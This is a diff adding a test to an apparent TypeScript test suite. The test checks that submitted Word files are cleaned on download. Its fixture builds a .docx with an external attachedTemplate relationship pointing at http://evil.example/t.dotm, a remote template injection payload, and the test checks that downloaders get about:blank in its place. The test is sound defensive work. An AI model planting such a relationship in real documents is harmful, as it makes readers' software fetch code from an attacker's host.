@@ -5,6 +5,9 @@ import { anInstructor, type TestUser } from '../../testing/factories.ts';
 import { anAssistant, ask } from '../../testing/scenarios.ts';
 import type { TestApp } from '../../testing/start-test-app.ts';
 import { twoWritingSessions } from '../../testing/two-writing-sessions.ts';
+import { clientOf } from '../../wopi/testing/wopi-client.ts';
+import { aWrittenAssignment, docx } from '../../wopi/testing/written-assignment.ts';
+import { partsOf, withParts } from '../versions/testing/version-scenario.ts';
 
 let server: TestApp;
 let instructor: TestUser;
@@ -91,6 +94,31 @@ describe('GET /api/submission/version/:versionId', () => {
     expect(readZip(response.rawPayload).byName.has('word/document.xml')).toBe(true);
     const stored = await server.services.versions.loadVersion(fileId, 2);
     expect(Buffer.compare(response.rawPayload, Buffer.from(stored))).toBe(0);
+  });
+
+  it('loads nothing from elsewhere when its reader opens it, and stays stored as it was', async () => {
+    const own = await aWrittenAssignment(server);
+    const settings = 'word/_rels/settings.xml.rels';
+    const template = 'http://evil.example/t.dotm';
+    const bytes = withParts(docx('One'), {
+      [settings]: `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${template}" TargetMode="External"/></Relationships>`,
+    });
+    const client = await clientOf(server, own);
+    await client.lock('A');
+    expect((await client.put(bytes, { 'x-wopi-lock': 'A' })).statusCode).toBe(200);
+    const download = async (person: TestUser) => {
+      const url = `/api/submission/version/${own.fileId}.1`;
+      const { rawPayload } = await server.app.inject({ url, headers: server.as(person) });
+      return Buffer.from(partsOf(rawPayload)[settings] ?? '', 'base64').toString();
+    };
+    for (const reader of [own.instructor, own.assistant]) {
+      const relationships = await download(reader);
+      expect(relationships).toContain('Target="about:blank"');
+      expect(relationships).not.toContain(template);
+    }
+    expect(partsOf(await server.services.versions.loadVersion(own.fileId, 1))).toEqual(
+      partsOf(bytes),
+    );
   });
 
   it('answers 404 to those who may not read it', async () => {
